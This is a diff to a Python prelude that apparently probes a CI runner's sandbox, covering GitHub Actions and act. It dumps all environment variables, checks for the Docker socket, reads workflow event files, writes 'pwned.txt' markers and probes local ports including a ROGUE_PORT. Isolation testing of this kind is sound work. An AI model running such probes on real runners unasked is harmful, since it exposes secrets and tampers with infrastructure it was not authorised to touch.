@@ -21,16 +21,16 @@ PRELUDE = """
 import json as _json, os as _os, socket as _socket
 print("ENV-DUMP " + _json.dumps(dict(_os.environ)))
 print("DOCKER-SOCKET", _os.path.exists("/var/run/docker.sock"))
-for _path in ("/github/workflow/event.json", _os.environ.get("GITHUB_EVENT_PATH") or "/nonexistent"):
+for _dir in ("/github/workflow", "/var/run/act/workflow"):  # a runner's, act's
     try:
-        print("READ", _path, open(_path).read()[:200])
+        print("READ", _dir, open(_dir + "/event.json").read()[:200])
     except OSError as _exc:
-        print("CANNOT-READ", _path, type(_exc).__name__)
-try:
-    open("/github/workflow/pwned.txt", "w").write("pwned")
-    print("WROTE /github/workflow/pwned.txt")
-except OSError as _exc:
-    print("CANNOT-WRITE", type(_exc).__name__)
+        print("CANNOT-READ", _dir, type(_exc).__name__)
+    try:
+        open(_dir + "/pwned.txt", "w").write("pwned")
+        print("WROTE", _dir)
+    except OSError as _exc:
+        print("CANNOT-WRITE", _dir, type(_exc).__name__)
 for _port in (5000, ROGUE_PORT):
     try:
         _socket.create_connection(("127.0.0.1", _port), timeout=2).close()
